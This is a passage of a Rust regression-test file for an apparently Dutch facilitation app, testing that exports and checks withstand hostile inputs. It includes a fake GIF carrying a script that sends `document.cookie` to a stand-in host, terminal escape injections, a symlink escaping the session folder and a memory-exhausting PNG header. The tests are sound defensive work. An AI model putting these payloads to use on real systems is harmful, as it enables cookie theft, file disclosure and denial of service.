//! The holes found by attacking the app as a hostile colleague would
//! (issue 20), one regression test each, named after what broke; and a
//! property: any text goes through every export (Markdown, HTML, DOCX,
//! PDF, the public variant too) and the files stay well-formed.

use std::ffi::OsStr;
use std::io::{Cursor, Read};
use std::path::{Path, PathBuf};

use chrono::TimeDelta;
use egui::Key;
use egui_kittest::Harness;
use egui_kittest::kittest::Queryable;
use leerkring::app::ManualClock;
use leerkring::model::{Experiment, ExperimentId, Keyword, KeywordId, OrgId, Session};
use leerkring::report::{self, ExportOptions, Format};
use leerkring::store::{self, AppDirs};
use leerkring::ui::projector::PhotoPicture;
use leerkring::{LeerkringApp, StartWith};
use proptest::prelude::*;
use serde_json::json;

use crate::console::{harness, press, type_text};
use crate::report::{
    TINY_PNG, assert_well_formed_xml, docx_part, docx_text, html_text, markdown_text, session_from,
};
use crate::support::{app_with_clock, run_binary, sample_path, test_clock, text};

const DUTCH: &str = "nl_NL.UTF-8";

/// A session with one municipality, its experiment and the attachments
/// given (relative paths), as a file in `dir`.
fn session_with_photos(dir: &Path, photos: &[&str]) -> PathBuf {
    let attachments: Vec<serde_json::Value> = photos
        .iter()
        .enumerate()
        .map(|(i, path)| json!({"id": format!("f-{i}"), "path": path, "caption": format!("foto {i}")}))
        .collect();
    let session = session_from(&json!({
        "format_version": 1,
        "header": {"title": "Aanval", "language": "nl", "date": "2020-02-04"},
        "organisations": [{"id": "o-1", "name": "Zeist"}],
        "experiments": [{"id": "e-1", "organisation": "o-1", "title": "Proef", "keywords": [{"id": "k-1", "text": "raad"}]}],
        "attachments": attachments
    }));
    let file = dir.join("s.json");
    store::save_session(&file, &session).expect("the session is written");
    file
}

/// Exports `file` in every format into `dir/uit/` with the real binary, in Dutch.
fn export_all(file: &Path, home: &Path) -> (std::process::Output, PathBuf) {
    let out = file.parent().expect("a folder").join("uit");
    std::fs::create_dir_all(&out).expect("the output folder");
    let output = run_binary(
        &[
            OsStr::new("export"),
            file.as_os_str(),
            OsStr::new("-o"),
            out.as_os_str(),
        ],
        home,
        DUTCH,
    );
    (output, out)
}

/// The pictures a DOCX package holds.
fn docx_media(docx: &[u8]) -> Vec<Vec<u8>> {
    let mut archive = zip::ZipArchive::new(Cursor::new(docx)).expect("the DOCX is a ZIP file");
    let names: Vec<String> = archive
        .file_names()
        .filter(|n| n.starts_with("word/media/"))
        .map(str::to_owned)
        .collect();
    names
        .iter()
        .map(|name| {
            let mut bytes = Vec::new();
            archive
                .by_name(name)
                .expect("the part")
                .read_to_end(&mut bytes)
                .expect("it reads");
            bytes
        })
        .collect()
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

/// A JPEG of 64 × 32 pixels.
fn jpeg() -> Vec<u8> {
    let image = image::RgbImage::from_fn(64, 32, |x, _| image::Rgb([(x * 4) as u8, 90, 160]));
    let mut bytes = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut bytes, 90)
        .encode_image(&image)
        .expect("encode");
    bytes
}

// --- 1. Files stay in their folder ------------------------------------------

#[cfg(unix)]
#[test]
fn a_symlink_in_the_assets_folder_to_an_image_outside_is_never_embedded() {
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let outside = dir.path().join("privé");
    std::fs::create_dir_all(&outside).unwrap();
    let mut secret = TINY_PNG.to_vec();
    secret.extend_from_slice(b"GEHEIM-PRIVE-FOTO");
    std::fs::write(outside.join("paspoort.png"), &secret).unwrap();
    let folder = dir.path().join("sessie");
    std::fs::create_dir_all(folder.join("s.assets")).unwrap();
    std::os::unix::fs::symlink(
        outside.join("paspoort.png"),
        folder.join("s.assets/bord.png"),
    )
    .unwrap();
    std::fs::write(folder.join("s.assets/echt.png"), TINY_PNG).unwrap();
    let file = session_with_photos(&folder, &["s.assets/bord.png", "s.assets/echt.png"]);

    let (output, out) = export_all(&file, home.path());
    let stderr = text(&output.stderr);
    assert!(output.status.success(), "the rest is written: {stderr}");
    assert!(
        stderr.contains("s.assets/bord.png") && stderr.contains("buiten de map van de sessie"),
        "{stderr}"
    );
    let docx = std::fs::read(out.join("s.docx")).unwrap();
    let media = docx_media(&docx);
    assert_eq!(media.len(), 1, "only the photo inside the folder");
    let html = std::fs::read_to_string(out.join("s.html")).unwrap();
    assert_eq!(html.matches("data:image/").count(), 1);
    let pictures: Vec<_> = std::fs::read_dir(out.join("s.md_files")).unwrap().collect();
    assert_eq!(pictures.len(), 1);
    for format in ["docx", "html", "md", "pdf"] {
        let bytes = std::fs::read(out.join(format!("s.{format}"))).unwrap();
        assert!(!contains(&bytes, b"GEHEIM"), "{format}");
    }
}

#[test]
fn a_gif89a_file_with_a_script_after_its_header_is_never_embedded() {
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let script =
        b"<script>fetch('https://x.example/?'+document.cookie)</script> wachtwoord=hunter2";
    let mut fake = b"GIF89a\x20\x00\x10\x00".to_vec();
    fake.extend_from_slice(script);
    std::fs::write(dir.path().join("plaatje.gif"), &fake).unwrap();
    let file = session_with_photos(dir.path(), &["plaatje.gif"]);

    let (output, out) = export_all(&file, home.path());
    let stderr = text(&output.stderr);
    assert!(output.status.success(), "{stderr}");
    assert!(
        stderr.contains("plaatje.gif") && stderr.contains("GIF"),
        "{stderr}"
    );
    let html = std::fs::read_to_string(out.join("s.html")).unwrap();
    assert!(!html.contains("data:image"), "no picture at all");
    assert!(!html.contains("<script"));
    assert!(docx_media(&std::fs::read(out.join("s.docx")).unwrap()).is_empty());
    for format in ["docx", "html", "md", "pdf"] {
        let bytes = std::fs::read(out.join(format!("s.{format}"))).unwrap();
        assert!(!contains(&bytes, b"hunter2"), "{format}");
    }
}

#[test]
fn a_truncated_jpeg_is_encoded_anew_never_embedded_as_it_is() {
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let whole = jpeg();
    let cut = whole[..whole.len() * 2 / 3].to_vec();
    std::fs::write(dir.path().join("half.jpg"), &cut).unwrap();
    let file = session_with_photos(dir.path(), &["half.jpg"]);

    let (output, out) = export_all(&file, home.path());
    assert!(output.status.success(), "{}", text(&output.stderr));
    let media = docx_media(&std::fs::read(out.join("s.docx")).unwrap());
    // Either the decoder made a whole picture of it (a new JPEG), or it was
    // refused and noted; never the cut-off bytes.
    for picture in &media {
        assert_ne!(picture, &cut);
        assert!(picture.ends_with(&[0xff, 0xd9]), "a complete JPEG");
    }
    if media.is_empty() {
        assert!(text(&output.stderr).contains("half.jpg"));
    }
}

/// The same photos in the app: the console shows them as unusable (the
/// huge one is never decoded, the link is never followed), and the export
/// dialog writes the report and says which photos were left out and why.
#[test]
fn the_app_shows_no_refused_photo_and_its_export_dialog_names_each_one() {
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("sessie.json");
    let mut session = store::load_session(&sample_path()).unwrap();
    let item = session.agenda.first().map(|i| i.id.clone());
    let mut fake = b"GIF89a\x20\x00\x10\x00".to_vec();
    fake.extend_from_slice(b"<script>alert(1)</script>");
    std::fs::write(dir.path().join("plaatje.gif"), &fake).unwrap();
    std::fs::write(dir.path().join("groot.png"), huge_png()).unwrap();
    std::fs::write(dir.path().join("echt.png"), TINY_PNG).unwrap();
    // A link out of the session's folder (where links can be made here).
    #[cfg(unix)]
    let link = {
        // Outside the session's folder (in the data folder, as it happens).
        let outside = home.path().join("paspoort.png");
        std::fs::write(&outside, TINY_PNG).unwrap();
        std::os::unix::fs::symlink(&outside, dir.path().join("link.png")).unwrap();
        Some("link.png")
    };
    #[cfg(not(unix))]
    let link = None;
    let photos: Vec<&str> = ["plaatje.gif", "groot.png", "echt.png"]
        .into_iter()
        .chain(link)
        .collect();
    for (i, path) in photos.iter().enumerate() {
        session.attachments.push(leerkring::model::Attachment {
            id: leerkring::model::AttachmentId::new(format!("f-{i}")),
            path: (*path).to_owned(),
            caption: format!("foto {i}"),
            agenda_item: item.clone(),
        });
    }
    store::save_session(&file, &session).unwrap();
    let mut h = harness(crate::support::app(StartWith::File(file), home.path()));

    let decided = |app: &LeerkringApp| {
        let thumbnails = &app.state.photos.thumbnails;
        thumbnails.len() == photos.len()
            && thumbnails
                .values()
                .all(|p| !matches!(p, PhotoPicture::Loading))
    };
    assert!(run_until(&mut h, decided), "every thumbnail decided");
    for (i, path) in photos.iter().enumerate() {
        let picture = &h.state().state.photos.thumbnails
            [&leerkring::model::AttachmentId::new(format!("f-{i}"))];
        if *path == "echt.png" {
            assert!(matches!(picture, PhotoPicture::Ready { .. }), "{path}");
        } else {
            assert!(
                matches!(picture, PhotoPicture::Unusable | PhotoPicture::Missing),
                "{path}: {picture:?}"
            );
        }
    }

    h.key_press_modifiers(egui::Modifiers::COMMAND | egui::Modifiers::SHIFT, Key::E);
    h.run_steps(3);
    let out = dir.path().join("uit");
    std::fs::create_dir_all(&out).unwrap();
    {
        let export = &mut h.state_mut().view.export;
        export.folder = out.display().to_string();
        export.formats = Format::ALL.map(|f| f == Format::Html);
    }
    h.run_steps(1);
    h.get_by_label("Exporteren").click();
    assert!(run_until(&mut h, |app| app.view.export.result.is_some()));
    h.run_steps(2);
    let result = h.state().view.export.result.clone().unwrap();
    assert!(result.errors.is_empty(), "{:?}", result.errors);
    assert_eq!(result.written.len(), 1, "the report is written");
    assert_eq!(result.notes.len(), photos.len() - 1, "{:?}", result.notes);
    h.get_by_label_contains("Foto plaatje.gif is weggelaten: het is geen PNG- of JPEG-foto");
    h.get_by_label_contains("Foto groot.png is weggelaten: de foto heeft meer dan 50 megapixel");
    #[cfg(unix)]
    h.get_by_label_contains("Foto link.png is weggelaten: het bestand staat buiten de map");
    let html = std::fs::read_to_string(&result.written[0]).unwrap();
    assert_eq!(html.matches("data:image/").count(), 1, "only echt.png");
    assert!(!html.contains("alert(1)"));
}

/// Runs frames until `done` holds (at most 20 s).
fn run_until(
    h: &mut Harness<'static, LeerkringApp>,
    mut done: impl FnMut(&LeerkringApp) -> bool,
) -> bool {
    let start = std::time::Instant::now();
    while start.elapsed() < std::time::Duration::from_secs(20) {
        h.run_steps(1);
        if done(h.state()) {
            return true;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    false
}

// --- 2. check prints titles raw ---------------------------------------------

#[test]
fn check_prints_a_title_without_terminal_escapes_and_shortened() {
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("s.json");
    let hostile = format!(
        "\u{1b}]0;gekaapt\u{7}Leerkring\u{1b}[2J {}",
        "lang".repeat(60)
    );
    let mut session = store::load_session(&sample_path()).unwrap();
    session.header.title = hostile;
    store::save_session(&file, &session).unwrap();
    let output = run_binary(&[OsStr::new("check"), file.as_os_str()], home.path(), DUTCH);
    assert!(output.status.success());
    let stdout = text(&output.stdout);
    assert!(
        !stdout.contains('\u{1b}') && !stdout.contains('\u{7}'),
        "{stdout:?}"
    );
    assert!(stdout.contains("]0;gekaaptLeerkring[2J lang"), "{stdout}");
    assert!(stdout.lines().all(|l| l.chars().count() < 400), "{stdout}");

    // A 10 MB title is refused with the field named, not printed.
    let mut value: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    value["header"]["title"] = json!(format!("\u{1b}[2J{}", "x".repeat(10_000_000)));
    std::fs::write(&file, value.to_string()).unwrap();
    let output = run_binary(&[OsStr::new("check"), file.as_os_str()], home.path(), DUTCH);
    assert!(!output.status.success());
    let all = format!("{}{}", text(&output.stdout), text(&output.stderr));
    assert!(all.len() < 2_000, "{} bytes printed", all.len());
    assert!(all.contains("header.title") && all.contains("300"), "{all}");
    assert!(!all.contains('\u{1b}'));
}

// --- 3. The public DOCX and control characters -------------------------------

#[test]
fn the_public_docx_stays_well_formed_with_u0001_in_an_organisation_name() {
    let session = session_from(&json!({
        "format_version": 1,
        "header": {"title": "Openbaar", "language": "nl", "date": "2020-02-04", "facilitator": "Anna de Vries"},
        "organisations": [{"id": "o-1", "name": "Zei\u{1}st"}],
        "participants": [{"id": "p-1", "name": "Anna de Vries", "organisation": "o-1"}],
        "experiments": [{"id": "e-1", "organisation": "o-1", "title": "Wat Anna de Vries deed",
                         "keywords": [{"id": "k-1", "text": "Anna de Vries belt"}]}],
        "synthesis": {"observations": {"bullets": [{"id": "b-1", "text": "Anna de Vries\u{1} zegt"}]}}
    }));
    let options = ExportOptions::new(true);
    let docx = report::render(&session, Format::Docx, &options).unwrap();
    for part in ["word/document.xml", "docProps/core.xml", "docProps/app.xml"] {
        assert_well_formed_xml(&docx_part(&docx, part));
    }
    let body = docx_text(&docx);
    assert!(body.contains("Zeist") && !body.contains("Anna"), "{body}");
    for format in [Format::Html, Format::Markdown] {
        let bytes = report::render(&session, format, &options).unwrap();
        let shown = String::from_utf8(bytes).unwrap();
        assert!(
            !shown
                .chars()
                .any(|c| c.is_control() && c != '\n' && c != '\t'),
            "{format}: control characters"
        );
        assert!(shown.contains("Zeist"), "{format}");
    }
    assert!(report::render(&session, Format::Pdf, &options).is_ok());
}

// --- 4. Locks you can trust ---------------------------------------------------

/// The app with its data folder in `home` (which may be unusable).
fn app_on(file: &Path, home: &Path, clock: &ManualClock) -> Harness<'static, LeerkringApp> {
    harness(app_with_clock(
        StartWith::File(file.to_path_buf()),
        home,
        clock.clone(),
    ))
}

/// Moves the clock past the autosave's wait and lets the autosave thread
/// answer: saved, refused (the file changed) or failed (a generous bound,
/// never reached).
fn autosave(h: &mut Harness<'static, LeerkringApp>, clock: &ManualClock) {
    for _ in 0..20 {
        clock.advance(TimeDelta::milliseconds(100));
        h.run_steps(1);
    }
    let answered = |h: &Harness<'static, LeerkringApp>| {
        let state = &h.state().state;
        !state.dirty
            || state.changed_on_disk
            || state
                .notices
                .iter()
                .any(|n| n.title == "Opslaan is mislukt")
    };
    let start = std::time::Instant::now();
    while !answered(h) && start.elapsed() < std::time::Duration::from_secs(10) {
        std::thread::sleep(std::time::Duration::from_millis(10));
        h.run_steps(1);
    }
    // What the thread still has queued (a copy) is written before it answers.
    let _ = h.state().flush_journal();
    h.run_steps(2);
}

#[test]
fn an_unusable_data_folder_opens_read_only_says_why_and_lets_the_facilitator_choose() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("sessie.json");
    std::fs::copy(sample_path(), &file).unwrap();
    // LEERKRING_HOME pointing at a file: the data folder cannot exist.
    let home = dir.path().join("geen-map");
    std::fs::write(&home, b"een bestand").unwrap();
    let clock = test_clock();
    let mut h = app_on(&file, &home, &clock);
    {
        let state = &h.state().state;
        assert!(state.read_only, "no lock, so no writing");
        let detail = state.unprotected.as_deref().unwrap_or_default();
        assert!(
            detail.contains("niet bruikbaar")
                && detail.contains("alleen-lezen")
                && detail.contains("een deel van het pad is een bestand"),
            "{detail}"
        );
        assert!(!detail.contains("Not a directory"), "{detail}");
    }
    h.get_by_label("Alleen-lezen: de bescherming tegen dubbel openen werkt niet");
    type_text(&mut h, "verboden");
    press(&mut h, Key::Enter);
    assert_eq!(h.state().state.session.keyword_count(), 66);

    h.get_by_label("Toch bewerken, zonder bescherming").click();
    h.run_steps(2);
    assert!(!h.state().state.read_only);
    type_text(&mut h, "toegestaan");
    press(&mut h, Key::Enter);
    autosave(&mut h, &clock);
    assert_eq!(store::load_session(&file).unwrap().keyword_count(), 67);
}

#[test]
fn two_unprotected_windows_never_both_write_one_file() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("sessie.json");
    std::fs::copy(sample_path(), &file).unwrap();
    let home = dir.path().join("geen-map");
    std::fs::write(&home, b"een bestand").unwrap();
    let clock = test_clock();
    let mut first = app_on(&file, &home, &clock);
    let mut second = app_on(&file, &home, &clock);
    for h in [&mut first, &mut second] {
        h.get_by_label("Toch bewerken, zonder bescherming").click();
        h.run_steps(2);
    }
    type_text(&mut first, "eerste venster");
    press(&mut first, Key::Enter);
    autosave(&mut first, &clock);
    type_text(&mut second, "tweede venster");
    press(&mut second, Key::Enter);
    autosave(&mut second, &clock);

    // The first window's keyword is on disk; the second did not write over it.
    let on_disk = store::load_session(&file).unwrap();
    let texts: Vec<String> = on_disk
        .experiments
        .iter()
        .flat_map(|e| e.keywords.iter().map(|k| k.text.clone()))
        .collect();
    assert!(texts.contains(&"eerste venster".to_owned()));
    assert!(!texts.contains(&"tweede venster".to_owned()));
    assert!(second.state().state.changed_on_disk);
    second.get_by_label("Een ander programma heeft sessie.json veranderd");
}

// --- 5. Outputs never destroy sessions ----------------------------------------

#[test]
fn export_to_another_session_file_is_refused_unless_forced() {
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let a = dir.path().join("a.json");
    let b = dir.path().join("b.json");
    std::fs::copy(sample_path(), &a).unwrap();
    std::fs::copy(sample_path(), &b).unwrap();
    let before = std::fs::read(&b).unwrap();
    let export = |extra: &[&OsStr]| {
        let mut args = vec![
            OsStr::new("export"),
            a.as_os_str(),
            OsStr::new("--format"),
            OsStr::new("md"),
            OsStr::new("-o"),
            b.as_os_str(),
        ];
        args.extend_from_slice(extra);
        run_binary(&args, home.path(), DUTCH)
    };
    let output = export(&[]);
    assert!(!output.status.success());
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains("b.json") && stderr.contains("--force"),
        "{stderr}"
    );
    assert_eq!(std::fs::read(&b).unwrap(), before, "untouched");

    // Open in a running Leerkring (its lock is held): not even with --force.
    let dirs = AppDirs::in_folder(home.path());
    let lock = store::SessionLock::try_acquire(&dirs, &b).unwrap();
    let output = export(&[OsStr::new("--force")]);
    assert!(!output.status.success());
    assert!(text(&output.stderr).contains("geopend in Leerkring"));
    assert_eq!(std::fs::read(&b).unwrap(), before, "untouched");
    drop(lock);

    let output = export(&[OsStr::new("--force")]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert!(std::fs::read_to_string(&b).unwrap().starts_with("# "));
}

#[test]
fn the_app_notices_its_file_was_replaced_and_asks_before_writing() {
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("sessie.json");
    std::fs::copy(sample_path(), &file).unwrap();
    let clock = test_clock();
    let mut h = app_on(&file, home.path(), &clock);

    // Another program moves a different session onto the file.
    let mut other = store::load_session(&sample_path()).unwrap();
    other.header.title = "Een andere sessie".into();
    let elsewhere = dir.path().join("ander.json");
    store::save_session(&elsewhere, &other).unwrap();
    std::fs::rename(&elsewhere, &file).unwrap();
    let replaced = std::fs::read(&file).unwrap();

    type_text(&mut h, "mijn trefwoord");
    press(&mut h, Key::Enter);
    autosave(&mut h, &clock);
    assert!(h.state().state.changed_on_disk);
    assert_eq!(std::fs::read(&file).unwrap(), replaced, "not written over");
    h.get_by_label("Een ander programma heeft sessie.json veranderd");
    // Saving keeps asking while nothing was chosen.
    autosave(&mut h, &clock);
    assert_eq!(std::fs::read(&file).unwrap(), replaced);
    // The work is safe meanwhile: one copy in the recovery folder.
    let recovery = AppDirs::in_folder(home.path()).recovery_dir();
    assert_eq!(std::fs::read_dir(&recovery).unwrap().count(), 1);

    h.get_by_label("Overschrijven met deze sessie").click();
    h.run_steps(3);
    let saved = store::load_session(&file).unwrap();
    assert_eq!(
        saved.header.title,
        store::load_session(&sample_path()).unwrap().header.title
    );
    assert_eq!(saved.keyword_count(), 67);
    assert!(!h.state().state.changed_on_disk);
    assert_eq!(
        std::fs::read_dir(&recovery).unwrap().count(),
        0,
        "the copy goes once the session is saved"
    );
}

// --- 6. Recovery folder hygiene ------------------------------------------------

#[test]
fn failing_saves_keep_one_recovery_copy_which_goes_once_saved() {
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("sessies");
    std::fs::create_dir_all(&folder).unwrap();
    let file = folder.join("sessie.json");
    std::fs::copy(sample_path(), &file).unwrap();
    let clock = test_clock();
    let mut h = app_on(&file, home.path(), &clock);

    // The folder goes away (a stick pulled out): saves fail, again and again.
    let away = dir.path().join("weg");
    std::fs::rename(&folder, &away).unwrap();
    let recovery = AppDirs::in_folder(home.path()).recovery_dir();
    for word in ["een", "twee", "drie"] {
        type_text(&mut h, word);
        press(&mut h, Key::Enter);
        for _ in 0..3 {
            // Past the 5 s between tries.
            clock.advance(TimeDelta::seconds(6));
            autosave(&mut h, &clock);
        }
    }
    assert!(h.state().state.dirty);
    let flushed = h.state().flush_journal();
    assert!(flushed.is_some());
    let copies: Vec<PathBuf> = std::fs::read_dir(&recovery)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(copies.len(), 1, "one copy, replaced: {copies:?}");
    let copy = store::load_session(&copies[0]).unwrap();
    assert_eq!(copy.keyword_count(), 69, "the copy holds every keyword");

    // The folder is back: the next save works and the copy goes.
    std::fs::rename(&away, &folder).unwrap();
    clock.advance(TimeDelta::seconds(6));
    autosave(&mut h, &clock);
    assert!(!h.state().state.dirty);
    assert_eq!(store::load_session(&file).unwrap().keyword_count(), 69);
    assert_eq!(std::fs::read_dir(&recovery).unwrap().count(), 0);
}

// --- 7. Memory ---------------------------------------------------------------------

#[test]
fn an_18000_square_png_is_left_out_without_decoding_it() {
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("groot.png"), huge_png()).unwrap();
    let file = session_with_photos(dir.path(), &["groot.png"]);
    let started = std::time::Instant::now();
    let (output, _) = export_all(&file, home.path());
    assert!(output.status.success());
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains("groot.png") && stderr.contains("50 megapixel"),
        "{stderr}"
    );
    assert!(started.elapsed() < std::time::Duration::from_mins(1));
}

/// A real PNG header claiming 18 000 × 18 000 pixels.
fn huge_png() -> Vec<u8> {
    let mut huge = TINY_PNG.to_vec();
    huge[16..20].copy_from_slice(&18_000u32.to_be_bytes());
    huge[20..24].copy_from_slice(&18_000u32.to_be_bytes());
    let crc = crc32(&huge[12..29]);
    huge[29..33].copy_from_slice(&crc.to_be_bytes());
    huge
}

/// The CRC-32 of PNG chunks.
fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xffff_ffff_u32;
    for &byte in bytes {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xedb8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

#[test]
fn a_ten_megabyte_keyword_in_a_file_is_refused_naming_the_field() {
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("s.json");
    let mut value: serde_json::Value =
        serde_json::from_slice(&std::fs::read(sample_path()).unwrap()).unwrap();
    value["experiments"][0]["keywords"][0]["text"] = json!("woord ".repeat(1_750_000));
    std::fs::write(&file, value.to_string()).unwrap();
    let output = run_binary(&[OsStr::new("check"), file.as_os_str()], home.path(), DUTCH);
    assert!(!output.status.success());
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains("experiments[0].keywords[0].text") && stderr.contains("500 tekens"),
        "{stderr}"
    );
}

// --- 8. Values the model accepts but should not -----------------------------------------

#[test]
fn check_refuses_month_13_and_duplicate_keys_naming_the_field() {
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("s.json");
    let mut value: serde_json::Value =
        serde_json::from_slice(&std::fs::read(sample_path()).unwrap()).unwrap();
    value["synthesis"]["next_meetings"][0]["when"] = json!({"month": {"year": 2020, "month": 13}});
    std::fs::write(&file, value.to_string()).unwrap();
    let output = run_binary(&[OsStr::new("check"), file.as_os_str()], home.path(), DUTCH);
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains("synthesis.next_meetings[0].when.month.month") && stderr.contains("13"),
        "{stderr}"
    );

    let text_with_duplicate = std::fs::read_to_string(sample_path()).unwrap().replacen(
        "\"title\":",
        "\"title\": \"Verstopt\",\n    \"title\":",
        1,
    );
    std::fs::write(&file, text_with_duplicate).unwrap();
    let output = run_binary(&[OsStr::new("check"), file.as_os_str()], home.path(), DUTCH);
    assert!(!output.status.success());
    let stderr = crate::support::text(&output.stderr);
    assert!(
        stderr.contains("header.title") && stderr.contains("twee keer"),
        "{stderr}"
    );
}

// --- 9. Messages ------------------------------------------------------------------------

#[test]
fn dutch_messages_explain_json_and_system_errors_instead_of_pasting_english() {
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("s.json");
    let mut value: serde_json::Value =
        serde_json::from_slice(&std::fs::read(sample_path()).unwrap()).unwrap();
    value["experiments"][0]["keywords"][0]["text"] = json!(5);
    std::fs::write(&file, value.to_string()).unwrap();
    // A path through a file, and a damaged file.
    std::fs::write(dir.path().join("bestand"), b"").unwrap();
    let through = dir.path().join("bestand").join("s.json");
    let damaged = dir.path().join("kapot.json");
    std::fs::write(&damaged, b"{\"format_version\": 1, \"header\": [}").unwrap();
    let output = run_binary(
        &[
            OsStr::new("check"),
            file.as_os_str(),
            through.as_os_str(),
            damaged.as_os_str(),
        ],
        home.path(),
        DUTCH,
    );
    let stderr = text(&output.stderr);
    for english in ["invalid type", "expected", "Not a directory", "os error"] {
        assert!(!stderr.contains(english), "{english} in: {stderr}");
    }
    assert!(
        stderr.contains("experiments[0].keywords[0].text"),
        "{stderr}"
    );
}

#[test]
fn follow_up_onto_its_own_session_does_not_advise_force() {
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("s.json");
    std::fs::copy(sample_path(), &file).unwrap();
    let before = std::fs::read(&file).unwrap();
    let output = run_binary(
        &[
            OsStr::new("follow-up"),
            file.as_os_str(),
            OsStr::new("-o"),
            file.as_os_str(),
            OsStr::new("--force"),
        ],
        home.path(),
        DUTCH,
    );
    assert!(!output.status.success());
    let stderr = text(&output.stderr);
    assert!(!stderr.contains("--force"), "{stderr}");
    assert!(stderr.contains("de sessie zelf"), "{stderr}");
    assert_eq!(std::fs::read(&file).unwrap(), before);
}

#[test]
fn check_takes_file_names_after_a_double_dash() {
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("-s.json");
    std::fs::copy(sample_path(), &file).unwrap();
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_leerkring"))
        .args(["check", "--", "-s.json"])
        .current_dir(dir.path())
        .env("LANG", DUTCH)
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env("LEERKRING_HOME", home.path())
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert!(text(&output.stdout).starts_with("-s.json: "));
}

// --- Any text through every export ---------------------------------------------------

/// Checks that `html` is well-formed enough for a browser to read it as
/// written: tags nest and close (void elements need not), no `<` inside a
/// tag or in text, attribute values quoted, `&` only as a reference.
fn assert_well_formed_html(html: &str) {
    const VOID: &[&str] = &["meta", "br", "img", "hr", "link", "col", "wbr", "input"];
    assert!(
        !html
            .chars()
            .any(|c| c.is_control() && !matches!(c, '\n' | '\t')),
        "control characters in the HTML"
    );
    let mut open: Vec<String> = Vec::new();
    let mut rest = html;
    let mut in_style = false;
    while let Some(start) = rest.find('<') {
        let text = &rest[..start];
        if !in_style {
            for (at, _) in text.match_indices('&') {
                let entity = &text[at..];
                let end = entity.find(';').unwrap_or(entity.len());
                assert!(
                    end < 12
                        && entity[1..end]
                            .chars()
                            .all(|c| c.is_alphanumeric() || c == '#'),
                    "a bare '&' in the text: {}",
                    &entity[..entity.len().min(20)]
                );
            }
        }
        let after = &rest[start + 1..];
        let end = after.find('>').expect("every tag ends");
        let tag = &after[..end];
        rest = &after[end + 1..];
        if tag.starts_with('!') {
            continue;
        }
        assert!(!tag.contains('<'), "a '<' inside a tag: {tag}");
        assert_eq!(tag.matches('"').count() % 2, 0, "unbalanced quotes: {tag}");
        if let Some(name) = tag.strip_prefix('/') {
            let name = name.trim();
            assert_eq!(
                open.pop().as_deref(),
                Some(name),
                "closing tag out of order"
            );
            in_style = false;
        } else {
            let name = tag
                .split_whitespace()
                .next()
                .unwrap_or("")
                .trim_end_matches('/')
                .to_lowercase();
            if !VOID.contains(&name.as_str()) && !tag.ends_with('/') {
                in_style = name == "style";
                open.push(name);
            }
        }
    }
    assert!(open.is_empty(), "elements left open: {open:?}");
}

/// `text` without any white space.
fn squeezed(text: &str) -> String {
    text.chars().filter(|c| !c.is_whitespace()).collect()
}

/// Any characters, with the ones that break formats more often than chance.
fn hostile_text() -> impl Strategy<Value = String> {
    let tricky = prop::sample::select(vec![
        '\u{0}',
        '\u{1}',
        '\u{1b}',
        '\u{7}',
        '\u{7f}',
        '\u{9b}',
        '\u{fffe}',
        '\u{ffff}',
        '\u{feff}',
        '\u{e000}',
        '\u{f0000}',
        '\u{10fffd}',
        '\u{202e}',
        '\r',
        '\n',
        '\t',
        '<',
        '>',
        '&',
        '"',
        '\'',
        '#',
        '*',
        '_',
        '\\',
        '`',
        '|',
        '[',
        ']',
        '(',
        ')',
        '!',
        '-',
        '+',
        '1',
        '.',
        '@',
        '⊗',
        ' ',
    ]);
    prop::collection::vec(prop_oneof![any::<char>(), tricky], 0..40)
        .prop_map(|chars| chars.into_iter().collect())
}

/// A small session with `text` as an organisation's name, a keyword, a
/// bullet and the meeting's location, and a participant of that
/// organisation named in the bullet (the public variant replaces them).
fn session_holding(text: &str) -> Session {
    let mut session = session_from(&json!({
        "format_version": 1,
        "header": {"title": "Eigenschap", "language": "nl", "date": "2020-02-04"},
        "organisations": [{"id": "o-1", "name": "x"}, {"id": "o-2", "name": "Zeist"}],
        "participants": [{"id": "p-1", "name": "Anna de Vries", "organisation": "o-1"}],
        "synthesis": {"observations": {"bullets": [{"id": "b-1", "text": "x"}]}}
    }));
    text.clone_into(&mut session.organisations[0].name);
